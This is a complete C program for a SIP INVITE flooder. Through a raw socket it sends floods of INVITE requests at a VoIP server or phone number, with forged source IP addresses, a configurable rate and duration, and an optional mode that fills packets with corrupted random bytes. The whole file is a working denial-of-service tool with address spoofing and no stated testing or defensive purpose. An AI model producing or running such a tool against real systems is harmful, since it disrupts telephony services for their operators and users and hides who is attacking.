/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * flooder KIND SOURCES NUMBER DESTINATION PORT RATE SECONDS: INVITEs to NUMBER, each a call of its own, by
 * UDP from port 5060 of forged addresses: five from SOURCES on. RATE is in packets a second, 0 as fast as can
 * be; KIND "whole", or "corrupt": cut anywhere, with random bytes in it. Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define SOURCES 5
#define SPOILT 12 /* bytes of a corrupt message */

struct flood {
	int socket;
	bool is_corrupt;
	uint32_t first_source; /* of the host's byte order */
	const char *number, *destination;
	struct sockaddr_in to;
	uint64_t sent;
};

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	char payload[1400];
};

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static size_t write_invite(const struct flood *flood, char *payload, size_t room, const char *source)
{
	unsigned call = (unsigned)flood->sent;

	return (size_t)snprintf(payload, room,
		"INVITE sip:%s@%s SIP/2.0\r\n"
		"Via: SIP/2.0/UDP %s:5060;branch=z9hG4bKflood%u\r\n"
		"Max-Forwards: 70\r\n"
		"From: <sip:flood@%s>;tag=%u\r\n"
		"To: <sip:%s@%s>\r\n"
		"Call-ID: flood-%u-%ld@%s\r\n"
		"CSeq: 1 INVITE\r\n"
		"Contact: <sip:flood@%s:5060>\r\n"
		"Content-Length: 0\r\n\r\n",
		flood->number, flood->destination, source, call, flood->destination, call, flood->number,
		flood->destination, call, random(), source, source);
}

static size_t spoil(char *payload, size_t size)
{
	for (int i = 0; i < SPOILT; i++) {
		payload[(size_t)random() % size] = (char)random();
	}
	return 8 + (size_t)random() % (size - 8);
}

static void send_one(struct flood *flood)
{
	struct datagram datagram = {0};
	struct in_addr source = {htonl(flood->first_source + (uint32_t)(flood->sent % SOURCES))};
	char text[INET_ADDRSTRLEN];

	inet_ntop(AF_INET, &source, text, sizeof text);
	size_t size = write_invite(flood, datagram.payload, sizeof datagram.payload, text);
	if (flood->is_corrupt) {
		size = spoil(datagram.payload, size);
	}
	datagram.udp = (struct udphdr){.source = htons(5060),
		.dest = flood->to.sin_port,
		.len = htons((uint16_t)(sizeof datagram.udp + size))};
	datagram.ip = (struct iphdr){.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.saddr = source.s_addr,
		.daddr = flood->to.sin_addr.s_addr};
	sendto(flood->socket, &datagram, sizeof datagram.ip + sizeof datagram.udp + size, 0,
		(const struct sockaddr *)&flood->to, sizeof flood->to);
	flood->sent++;
}

static void run(struct flood *flood, double rate, double seconds)
{
	double began = now(), passed;

	while ((passed = now() - began) < seconds) {
		uint64_t due = rate > 0 ? (uint64_t)(rate * passed) : flood->sent + 64;
		if (flood->sent >= due) {
			nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
		}
		while (flood->sent < due) {
			send_one(flood);
		}
	}
}

int main(int count, char **arguments)
{
	struct flood flood = {.socket = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)};
	struct in_addr source;

	if (count != 8 || flood.socket < 0 || inet_pton(AF_INET, arguments[2], &source) != 1 ||
		inet_pton(AF_INET, arguments[4], &flood.to.sin_addr) != 1) {
		fprintf(stderr,
			"usage: flooder KIND SOURCES NUMBER DESTINATION PORT RATE SECONDS, as root\n");
		return 2;
	}
	flood.is_corrupt = strcmp(arguments[1], "corrupt") == 0;
	flood.first_source = ntohl(source.s_addr);
	flood.number = arguments[3];
	flood.destination = arguments[4];
	flood.to.sin_family = AF_INET;
	flood.to.sin_port = htons((uint16_t)atoi(arguments[5]));
	srandom((unsigned)time(NULL));
	run(&flood, atof(arguments[6]), atof(arguments[7]));
	printf("%llu packets in %s s\n", (unsigned long long)flood.sent, arguments[7]);
	return 0;
}
